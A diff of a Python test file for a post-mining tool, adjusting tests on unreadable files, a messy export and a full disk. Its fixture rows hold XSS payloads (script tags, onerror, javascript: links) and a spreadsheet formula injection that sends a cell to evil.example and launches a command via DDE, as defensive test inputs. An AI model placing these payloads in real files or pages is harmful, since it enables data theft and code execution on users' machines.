@@ -144,7 +144,7 @@ class TestFilesThatAreNoPosts:
         assert ended.result.exit_code == 2
         assert "is a directory; name the files in it" in ended.told
 
-    def test_a_file_that_may_not_be_read(self, mine: Mine) -> None:
+    def test_a_file_that_may_not_be_read(self) -> None:
         with tempfile.TemporaryDirectory() as folder, pytest.MonkeyPatch.context() as patch:
             Path(folder).chmod(0o777)
             patch.setattr("tempfile.tempdir", folder)
@@ -188,18 +188,18 @@ MESSY = [
     post(34, "Nobody wrote this about the calendar.", author=None),
     post(
         40,
-        "The search <script>document.title='owned'</script> of <img src=x onerror=alert(1)> my notes is slow.",
+        "The search <script>document.title='owned'</script> of <img src=x onerror=alert(1)> is slow.",
         title="<script>alert('title')</script> Search & <b>rescue</b>",
         author="<script>alert('author')</script>",
         url="javascript:alert(1)",
     ),
     post(
         41,
-        "The editor shows `</textarea><script>alert(2)</script>` in my notes [click](javascript:alert(3)).",
+        "The editor shows `</textarea><script>alert(2)</script>` and [click](javascript:alert(3)).",
     ),
     post(
         42,
-        '=HYPERLINK("http://evil.example/?"&A1,"The export of my notes") is slow, cmd|\'/c calc\'!A1',
+        '=HYPERLINK("http://evil.example/?"&A1,"The export") is slow, cmd|\'/c calc\'!A1',
     ),
     post(43, "+1 The export of my notes is slow. @SUM(A1:A9) | table | pipes | break | markdown |"),
 ]
@@ -215,7 +215,7 @@ def messy(tmp_path_factory: pytest.TempPathFactory) -> Ended:
 
 
 class TestMessyExport:
-    """One export with every kind of bad row: each is set aside with its reason, the rest is mined."""
+    """One export with every kind of bad row: each is set aside, the rest is mined."""
 
     def test_the_digest_is_written(self, messy: Ended) -> None:
         assert messy.result.exit_code == 0
@@ -412,7 +412,7 @@ class TestFullDisk:
         assert result.exit_code == 3
         assert "free some space" in " ".join(result.stderr.split())
         assert (small_disk / "digest" / "digest.json").read_text("utf-8") == before
-        assert [path.name for path in small_disk.iterdir()] == ["digest", "ballast"]
+        assert {path.name for path in small_disk.iterdir()} == {"digest", "ballast"}
 
 
 def _fill(disk: Path, free_kb: int) -> Path:
